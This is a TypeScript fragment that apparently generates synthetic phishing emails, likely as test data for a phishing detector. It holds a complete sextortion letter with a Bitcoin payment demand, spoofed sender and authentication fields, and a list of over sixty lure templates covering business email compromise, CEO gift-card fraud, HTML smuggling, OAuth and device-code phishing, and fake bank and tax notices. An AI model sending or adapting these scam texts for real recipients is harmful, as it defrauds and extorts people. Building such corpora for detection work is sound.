    from: self ? { name: to.name, address: to.address } : { address: freemail(r, token(r, 8)) },
    to,
    subject: pick(r, [
      'Your account has been hacked',
      `${to.address.split('@')[0]}`,
      'Security notice',
      'Betala eller så sprider jag videon',
      'I know your password',
    ]),
    auth: self ? spoofed(r) : PASS,
    via: self ? 'vps' : 'direct',
    returnPath: self ? `${token(r, 7)}@${pick(r, ['mail.ru', 'yandex.com'])}` : undefined,
    lang: 'en',
    ...letter({
      style: 'plain',
      parts: 'text',
      blocks: [
        'Hello!',
        `I am a hacker who has access to your operating system. I also have full access to your account ${to.address}. I have been watching you for a few months now.`,
        'Your device was infected with my malware while you visited adult websites. I recorded you through your camera and collected your contacts, messages and browsing history.',
        `Transfer USD ${amt} in Bitcoin to this address: ${btc}`,
        'You have 48 hours. After payment I will delete everything. If you do not pay, the video will be sent to all your contacts and colleagues. Do not try to find me, it is impossible.',
      ],
    }),
  };
});

export const MAIN_PHISHING_23: readonly Template[] = [
  amazonDeactivated,
  amazonKycHtml,
  zalandoPayout,
  cdonListings,
  buyerMessage,
  shopifyClosure,
  shopifyPayout,
  stripeVerify,
  stripeDisputeHtml,
  adyenChargebackPdf,
  klarnaMerchant,
  klarnaCallback,
  metaCopyright,
  metaAdAccount,
  metaInvite,
  googleAds,
  trustpilotFlag,
  reviewExtortion,
  influencerZip,
  influencerLink,
  complaintLnk,
  customerIso,
  imyComplaint,
  supplierBankCn,
  threadHijack,
  fortnoxInvoice,
  htmlSmuggling,
  jsZip,
  proformaXlsm,
  rfqDoc,
  remittanceOne,
  directoryInvoice,
  callbackSubscription,
  ceoGiftCards,
  ceoTransfer,
  becFirstContact,
  payrollDiversion,
  vismaPayslip,
  bankIdRenewal,
  bankIdQr,
  bankCredential,
  swishRefund,
  skatteverketRefund,
  kronofogden,
  congestionTax,
  postnordFee,
  dhlDutyHtml,
  budbeeMissed,
  passwordExpiry,
  sharePointShare,
  deviceCode,
  oauthConsent,
  mfaQr,
  qrPdf,
  docusignFake,
  scriveHtml,
  voicemail,
  calendarLure,
  mailboxQuota,
  wetransferFake,
  helpdeskCallback,
  domainRenewal,
  sextortion,
];

const ALL: readonly Template[] = [...MAIN_PHISHING_23, ...LOCAL_PHISHING_23];

export const UNSEEN_23_KINDS: readonly string[] = [...new Set(ALL.map((t) => t.kind))];
export const UNSEEN_23_TEMPLATE_COUNT: number = ALL.length;

export async function unseenPhishing23(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<{ raw: string; kind: string; template: string }[]> {
  return runTemplates(ALL, perTemplate, seed, seededRandom);
}
